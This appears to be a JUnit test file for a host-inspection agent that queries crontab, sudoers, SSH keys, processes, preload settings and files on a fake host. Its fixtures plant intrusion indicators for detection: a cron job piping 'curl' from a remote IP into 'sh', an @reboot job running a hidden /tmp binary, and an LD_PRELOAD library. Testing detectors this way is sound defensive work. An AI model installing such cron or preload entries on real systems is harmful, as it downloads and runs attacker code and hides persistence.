package io.diffy.agent.tables;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.diffy.agent.collect.QueryAnswer;
import io.diffy.schemas.Coverage;
import java.io.IOException;
import java.nio.file.Files;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What each table shows of a host. */
class TablesTest {
  private FakeHost host;

  @BeforeEach
  void aCompleteHost() throws IOException {
    host = FakeHost.complete();
  }

  @AfterEach
  void close() throws IOException {
    host.close();
  }

  @Test
  void cronJobsOfTheSystemAndOfUsers() throws IOException {
    host.write("/etc/cron.d/update", "MAILTO=\"\"\r\n" + FakeHost.ROGUE_CRON.strip() + "\r\n");
    host.write("/var/spool/cron/crontabs/root", "@reboot /tmp/.x --now");
    assertEquals(
        List.of(
            job("", "17", "*", "root cd / && run-parts --report /etc/cron.hourly", "/etc/crontab"),
            job("", "*", "*", "root curl -s http://203.0.113.9/x | sh", "/etc/cron.d/update"),
            job("@reboot", "", "", "/tmp/.x --now", "/var/spool/cron/crontabs/root")),
        ok("SELECT event, minute, hour, command, path FROM crontab"));
  }

  @Test
  void noCronAtAllIsAnAnswer() throws IOException {
    host.remove("/etc/crontab");
    assertEquals(List.of(), ok("SELECT * FROM crontab"));
  }

  @Test
  void onlyRegularFilesAreOpenedInCronsDirectories() throws IOException, InterruptedException {
    host.link("/etc/cron.d/loop", "loop");
    host.link("/etc/cron.d/device", "/dev/zero");
    host.link("/etc/cron.d/nowhere", "/no/such/file");
    Files.createDirectories(host.path("/etc/cron.d/directory"));
    String fifo = host.path("/etc/cron.d/fifo").toString();
    assertEquals(0, new ProcessBuilder("mkfifo", fifo).start().waitFor());
    assertEquals(1, ok("SELECT * FROM crontab").size());
  }

  @Test
  void linksAreFollowedInsideTheRoot() throws IOException {
    host.write("/srv/cron/web", FakeHost.ROGUE_CRON);
    host.link("/etc/cron.d", "/srv/../../srv/cron");
    assertEquals(
        "[{path=/etc/cron.d/web}]",
        ok("SELECT path FROM crontab WHERE command LIKE '%curl%'").toString());
  }

  /** What Java strips is more than what sudo takes for the end of a word. */
  @Test
  void aSudoersRuleOfOddBlanksIsARule() throws IOException {
    host.write("/etc/sudoers.d/web", "0\u000b \\\n");
    assertTrue(ok("SELECT * FROM sudoers").contains(rule("/etc/sudoers.d/web", "0\u000b", "")));
  }

  @Test
  void sudoersFollowsIncludesAndJoinsLongLines() throws IOException {
    host.write("/etc/sudoers.d/again", "@include ../sudoers\n");
    assertEquals(
        List.of(
            rule("/etc/sudoers", "Defaults", "env_reset"),
            rule("/etc/sudoers", "root", "ALL=(ALL:ALL) ALL"),
            rule("/etc/sudoers", "@includedir", "/etc/sudoers.d"),
            rule("/etc/sudoers.d/again", "@include", "../sudoers"),
            rule("/etc/sudoers.d/web", "www-data", "ALL=NOPASSWD: /bin/systemctl")),
        ok("SELECT * FROM sudoers"));
    host.remove("/etc/sudoers");
    assertEquals(List.of(), ok("SELECT * FROM sudoers"));
  }

  @Test
  void authorizedKeysOfEveryUserWithTheirOptions() throws IOException {
    host.write(
        "/var/www/.ssh/authorized_keys",
        """
        # comment
        command="echo \\"ssh-rsa no\\"",no-pty ssh-rsa AAAAB3 a comment \r
        not a key
        ecdsa-sha2-nistp256 AAAAE2""");
    assertEquals(
        List.of(
            "{algorithm=ssh-ed25519, comment=admin@bastion, key=AAAAC3Nz, options=, uid=0}",
            "{algorithm=ssh-rsa, comment=a comment, key=AAAAB3,"
                + " options=command=\"echo \\\"ssh-rsa no\\\"\",no-pty, uid=33}",
            "{algorithm=ecdsa-sha2-nistp256, comment=, key=AAAAE2, options=, uid=33}"),
        ok(
                "SELECT uid, algorithm, key, options, comment FROM users JOIN authorized_keys"
                    + " USING (uid) ORDER BY uid, options DESC")
            .stream()
            .map(Object::toString)
            .toList());
  }

  @Test
  void processesAndTheirStrangeNames() {
    assertEquals(
        "[{cgroup_path=/system.slice/nginx.service, cmdline=nginx: master -g daemon off;,"
            + " disk_bytes_read=, egid=0, name=nginx, on_disk=1, parent=1, path=/usr/sbin/nginx,"
            + " resident_size=2048, start_time=1700000005, user_time=2500},"
            + " {cgroup_path=/system.slice/x) y.service, cmdline=/tmp/.x --now,"
            + " disk_bytes_read=, egid=0, name=x) y, on_disk=0, parent=1, path=/tmp/.x,"
            + " resident_size=2048, start_time=1700000005, user_time=2500}]",
        ok("SELECT name, path, cmdline, on_disk, parent, egid, resident_size, start_time,"
                + " user_time, cgroup_path, disk_bytes_read FROM processes")
            .toString());
  }

  @Test
  void processesThatEndWhileTheyAreReadAreLeftOut() throws IOException {
    host.remove("/proc/100/stat");
    assertEquals("[{pid=1000}]", ok("SELECT pid FROM processes").toString());
  }

  @Test
  void processesThatCanNotBeReadAreCounted() throws IOException {
    host.write("/proc/100/stat", "100 (nginx");
    QueryAnswer answer = host.ask("SELECT pid FROM processes");
    assertEquals(
        QueryAnswer.truncated(
            "1 of the processes could not be read (/proc/100, …): run as root",
            List.of(Map.of("pid", "1000"))),
        answer);
  }

  @Test
  void preloadedLibrariesInEnvironments() {
    assertEquals(
        "[{name=x) y, value=/tmp/evil.so}]",
        ok("SELECT name, value FROM process_envs JOIN processes USING (pid)"
                + " WHERE key = 'LD_PRELOAD'")
            .toString());
  }

  @Test
  void socketsWithTheirProcesses() {
    assertEquals(
        "[{fd=6, local_address=0.0.0.0, local_port=80, pid=100, state=LISTEN},"
            + " {fd=-1, local_address=127.0.0.1, local_port=50000, pid=-1, state=ESTABLISHED},"
            + " {fd=-1, local_address=::1, local_port=22, pid=-1, state=LISTEN}]",
        ok("SELECT pid, fd, local_address, local_port, state FROM process_open_sockets"
                + " WHERE family <> 1")
            .toString());
    assertEquals(
        "[{remote_address=192.168.0.9, remote_port=443}]",
        ok("SELECT remote_address, remote_port FROM process_open_sockets"
                + " WHERE remote_port <> 0")
            .toString());
    assertEquals(
        "[{path=/run/my app.sock, port=0, socket=0}]",
        ok("SELECT path, port, socket FROM listening_ports WHERE family = 1").toString());
  }

  @Test
  void usersAndGroups() {
    assertEquals(
        "[{groupname=adm, username=www-data}, {groupname=www-data, username=www-data}]",
        ok("SELECT username, groupname FROM users JOIN user_groups USING (uid)"
                + " JOIN groups g ON g.gid = user_groups.gid WHERE uid = 33")
            .toString());
  }

  @Test
  void packagesThatAreInstalled() {
    assertEquals(
        "[{arch=amd64, name=nginx, revision=9+deb12u1, size=1234, version=1.22.1-9+deb12u1},"
            + " {arch=, name=adduser, revision=, size=, version=3.134}]",
        ok("SELECT name, version, revision, arch, size FROM deb_packages").toString());
  }

  @Test
  void systemdUnitsAndWhatEnablesThem() {
    assertEquals(
        "[{description=apt-daily.timer, fragment_path=/etc/systemd/system/apt-daily.timer,"
            + " id=apt-daily.timer, load_state=masked, unit_file_state=masked, user=},"
            + " {description=A web server, fragment_path=/usr/lib/systemd/system/nginx.service,"
            + " id=nginx.service, load_state=loaded, unit_file_state=enabled, user=www-data}]",
        ok("SELECT id, description, load_state, unit_file_state, fragment_path, user"
                + " FROM systemd_units")
            .toString());
  }

  @Test
  void suidBinariesUnderBothOfTheirPaths() {
    assertEquals(
        "[{groupname=root, path=/bin/passwd, permissions=S, username=root},"
            + " {groupname=root, path=/usr/bin/passwd, permissions=S, username=root}]",
        ok("SELECT path, permissions, 'root' AS username, 'root' AS groupname FROM suid_bin")
            .toString());
  }

  @Test
  void filesByPathPatternAndDirectory() throws IOException {
    host.write("/etc/ld.so.preload", "/tmp/evil.so\n");
    assertEquals(
        "[{mode=4755, path=/usr/bin/passwd, size=17, type=regular}]",
        ok("SELECT path, mode, size, type FROM file WHERE path = '/usr/bin/passwd'").toString());
    assertEquals(
        "[{path=/etc/ld.so.preload}]",
        ok("SELECT path FROM file WHERE path LIKE '/etc/ld.%'").toString());
    assertEquals(
        "[{path=/etc/sudoers.d/web}, {path=/etc/sudoers.d/web.bak}]",
        ok("SELECT path FROM file WHERE directory = '/etc/sudoers.d'").toString());
    assertEquals(
        "[{path=/usr/lib/systemd/system/nginx.service}]",
        ok("SELECT path FROM file WHERE path LIKE '/usr/%%' AND filename = 'nginx.service'")
            .toString());
    assertEquals(List.of(), ok("SELECT * FROM file WHERE path = '/no/such/file'"));
    assertEquals(
        "[{symlink=1, symlink_target_path=/dev/null, type=symlink}]",
        ok("SELECT symlink, symlink_target_path, type FROM file"
                + " WHERE path = '/etc/systemd/system/apt-daily.timer'")
            .toString());
  }

  @Test
  void hashesOfWhatRunsAndOfWhatIsNamed() throws IOException {
    host.write("/usr/sbin/nginx", "abc");
    assertEquals(
        "[{name=nginx, sha256=ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad}]",
        ok("SELECT name, sha256 FROM processes JOIN hash USING (path)").toString());
    assertEquals(
        "[{md5=900150983cd24fb0d6963f7d28e17f72, sha1=a9993e364706816aba3e25717850c26c9cd0d89d}]",
        ok("SELECT md5, sha1 FROM hash WHERE path = '/usr/sbin/nginx'").toString());
    QueryAnswer tooLong =
        host.ask(
            "SELECT sha256 FROM hash WHERE path = '/usr/sbin/nginx'",
            new QueryLimits(Duration.ofMinutes(1), 200_000, 64L << 20, 2));
    assertEquals(
        QueryAnswer.truncated(
            "/usr/sbin/nginx is longer than 2 bytes: not hashed", List.of(Map.of("sha256", ""))),
        tooLong);
  }

  @Test
  void filesAndHashesNeedPaths() {
    assertEquals(
        QueryAnswer.failed(
            "file needs paths: ask WHERE path = '/…', or LIKE, or join a table that has a path"),
        host.ask("SELECT * FROM file"));
  }

  @Test
  void mountsAreTheHostsAndNotThoseOfAServiceThatAsks() throws IOException {
    host.write("/proc/1/mounts", "/dev/sda1 / ext4 rw 0 0\n");
    host.write("/proc/self/mounts", "/dev/sda1 / ext4 ro 0 0\n");

    assertEquals("[{flags=rw, path=/}]", ok("SELECT path, flags FROM mounts").toString());
  }

  @Test
  void mountsHostsModulesAndTheRest() {
    assertEquals(
        "[{flags=rw, path=/, type=ext4}, {flags=rw,nosuid, path=/mnt/my disk, type=tmpfs}]",
        ok("SELECT path, type, flags FROM mounts").toString());
    assertEquals(
        "[{address=127.0.0.1, hostnames=localhost loghost}, {address=::1, hostnames=localhost}]",
        ok("SELECT * FROM etc_hosts").toString());
    assertEquals(
        "[{address=0xffffffffc0a1e000, name=overlay, size=151552, status=Live,"
            + " used_by=nf_nat,xfs}]",
        ok("SELECT * FROM kernel_modules").toString());
    assertEquals(
        "[{arch=x86_64, codename=bookworm, major=12, minor=0, name=Debian GNU/Linux}]",
        ok("SELECT name, major, minor, codename, arch FROM os_version").toString());
    assertEquals(
        "[{arguments=ro quiet, device=/dev/sda1, path=/vmlinuz, version=6.1.0-18-amd64}]",
        ok("SELECT * FROM kernel_info").toString());
    assertEquals(
        "[{days=1, hours=1, minutes=1, seconds=1, total_seconds=90061}]",
        ok("SELECT * FROM uptime").toString());
    assertEquals(
        "[{cpu_brand=A CPU, cpu_logical_cores=2, hostname=web-1, physical_memory=2097152}]",
        ok("SELECT hostname, cpu_brand, cpu_logical_cores, physical_memory FROM system_info")
            .toString());
  }

  @Test
  void whatIsNotThereIsAnErrorAndNotNothing() throws IOException {
    try (FakeHost nothing = FakeHost.empty()) {
      for (OsqueryTable table : BuiltInTables.ALL) {
        QueryAnswer answer = nothing.ask("SELECT * FROM " + table.name());
        assertEquals(Coverage.ERROR, answer.coverage(), table.name());
        assertTrue(answer.error().length() > 20, table.name() + ": " + answer.error());
      }
      assertEquals(
          QueryAnswer.failed("/var/lib/dpkg/status does not exist: this is not a dpkg system"),
          nothing.ask("SELECT * FROM deb_packages"));
    }
  }

  private List<Map<String, String>> ok(String sql) {
    QueryAnswer answer = host.ask(sql);
    assertEquals("", answer.error());
    assertEquals(Coverage.OK, answer.coverage());
    return answer.rows();
  }

  private static Map<String, String> job(
      String event, String minute, String hour, String command, String path) {
    return Map.of("event", event, "minute", minute, "hour", hour, "command", command, "path", path);
  }

  private static Map<String, String> rule(String source, String header, String details) {
    return Map.of("source", source, "header", header, "rule_details", details);
  }
}
